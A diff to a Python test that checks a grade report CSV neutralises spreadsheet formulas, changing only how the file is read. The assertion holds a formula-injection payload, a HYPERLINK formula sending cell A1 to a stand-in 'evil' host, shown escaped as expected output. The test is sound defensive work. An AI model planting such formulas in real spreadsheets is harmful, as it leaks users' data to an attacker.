@@ -474,7 +474,7 @@ def test_the_grade_report_neutralises_formulas(here: Path) -> None:
     invoke("check", "b.yaml", "--report", "grades.csv")
     import csv
 
-    rows = list(csv.reader(Path("grades.csv").open()))
+    rows = list(csv.reader(Path("grades.csv").read_text().splitlines()))
     assert rows[1][0] == '\'=HYPERLINK("http://evil/?"&A1,"x")' and rows[1][3] == "-0.5"
 
 
